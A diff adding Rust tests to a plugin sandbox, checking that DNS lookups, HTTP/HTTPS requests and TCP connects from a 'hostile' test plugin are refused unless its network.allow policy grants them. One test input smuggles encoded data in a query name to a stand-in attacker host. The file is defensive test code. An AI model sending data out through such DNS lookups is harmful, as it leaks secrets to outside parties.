@@ -569,3 +569,150 @@ async fn grants_over_wards_own_files_are_refused_at_load() {
     assert_eq!(text(&read), "granted");
     assert_eq!(std::fs::read_to_string(&token).unwrap(), "s3cret-token\n");
 }
+
+/// Issue 11, item 5: a network grant is not a grant to query the resolver.
+/// A name outside `network.allow` is `access-denied` without a lookup (no
+/// data leaks in DNS queries, no map of internal names), and a granted name's
+/// answers are classified like a connect's: loopback only when listed.
+#[tokio::test]
+async fn name_lookups_reach_the_resolver_only_for_granted_names() {
+    let dir = Dir::new();
+    dir.plugin("hostile", "hostile")
+        .policy("hostile", "[network]\nallow = [\"api.example.com:443\"]\n")
+        .plugin("hostile", "named")
+        .policy("named", "[network]\nallow = [\"localhost:8080\"]\n")
+        .plugin("hostile", "listed")
+        .policy(
+            "listed",
+            "[network]\nallow = [\"localhost:8080\", \"127.0.0.1:8080\", \"[::1]:8080\"]\n",
+        )
+        .plugin("hello", "hello");
+    let ward = Ward::start(dir.path()).await;
+
+    // Data smuggled in a query name, and a name the host resolves from
+    // /etc/hosts: neither is granted, so neither reaches a resolver.
+    let leak = contained(
+        &ward,
+        "resolve",
+        json!({"name": "c2VjcmV0.attacker.example"}),
+    )
+    .await;
+    assert!(leak.ends_with("failed: access-denied"), "{leak}");
+    let probe = contained(&ward, "resolve", json!({"name": "localhost"})).await;
+    assert!(probe.ends_with("failed: access-denied"), "{probe}");
+    let log = ward.wait_log("c2VjcmV0.attacker.example").await;
+    assert!(
+        log.contains("network.allow") && log.contains("hostile.toml"),
+        "{log}"
+    );
+
+    // Granted by name, but it resolves to loopback, which is not listed.
+    let result = ward
+        .call("named_resolve", json!({"name": "localhost"}))
+        .await;
+    assert!(is_error(&result), "{}", text(&result));
+    assert!(
+        text(&result).ends_with("failed: access-denied"),
+        "{}",
+        text(&result)
+    );
+    ward.wait_log("named.toml").await;
+
+    // Granted, and its loopback addresses are listed: answered.
+    let result = ward
+        .call("listed_resolve", json!({"name": "LOCALHOST."}))
+        .await;
+    assert!(!is_error(&result), "{}", text(&result));
+    assert!(
+        text(&result)
+            .lines()
+            .all(|a| a == "127.0.0.1" || a == "::1"),
+        "{}",
+        text(&result)
+    );
+    assert!(text(&result).contains("127.0.0.1"), "{}", text(&result));
+    still_serving(&ward).await;
+}
+
+/// A loopback listener that counts the connections it accepts.
+async fn counting_listener() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let accepted = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let count = accepted.clone();
+    tokio::spawn(async move {
+        while let Ok((socket, _)) = listener.accept().await {
+            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            drop(socket);
+        }
+    });
+    (port, accepted)
+}
+
+/// HTTPS goes to the address ward checked, as plain HTTP does: a granted
+/// name that resolves to loopback (not listed) is refused before any
+/// connection, with the same error for both schemes (issue 11, item 5).
+#[tokio::test]
+async fn https_to_a_granted_name_on_loopback_is_refused_like_http() {
+    let (port, accepted) = counting_listener().await;
+    let policy = format!("[network]\nallow = [\"localhost:{port}\"]\n");
+    let ward = Ward::start(hostile(Some(&policy)).path()).await;
+    let http = contained(
+        &ward,
+        "http_get",
+        json!({"url": format!("http://localhost:{port}/")}),
+    )
+    .await;
+    let https = contained(
+        &ward,
+        "http_get",
+        json!({"url": format!("https://localhost:{port}/")}),
+    )
+    .await;
+    assert!(http.contains("DestinationIpProhibited"), "{http}");
+    assert_eq!(http, https);
+    assert_eq!(
+        accepted.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "something connected"
+    );
+    let log = ward.wait_log("127.0.0.1").await;
+    assert!(log.contains(&format!("localhost:{port}")), "{log}");
+}
+
+/// Every network refusal says whose it was and how to allow it: the plugin,
+/// its policy file and the key `network.allow` (issue 15).
+#[tokio::test]
+async fn network_refusals_name_the_plugin_and_the_key() {
+    let (port, accepted) = counting_listener().await;
+    let ward =
+        Ward::start(hostile(Some("[network]\nallow = [\"api.example.com:443\"]\n")).path()).await;
+    contained(&ward, "http_get", json!({"url": "http://example.com/"})).await;
+    let log = ward.wait_log("example.com:80").await;
+    let line = log.lines().find(|l| l.contains("example.com:80")).unwrap();
+    assert!(line.contains("hostile"), "{line}");
+    assert!(
+        line.contains("add \"example.com:80\" to `network.allow` in hostile.toml"),
+        "{line}"
+    );
+    contained(
+        &ward,
+        "tcp_connect",
+        json!({"addr": format!("127.0.0.1:{port}")}),
+    )
+    .await;
+    let needle = format!("127.0.0.1:{port}");
+    let log = ward.wait_log(&needle).await;
+    let line = log.lines().find(|l| l.contains(&needle)).unwrap();
+    assert!(
+        line.contains(&format!(
+            "add \"127.0.0.1:{port}\" to `network.allow` in hostile.toml"
+        )),
+        "{line}"
+    );
+    assert_eq!(
+        accepted.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "something connected"
+    );
+}
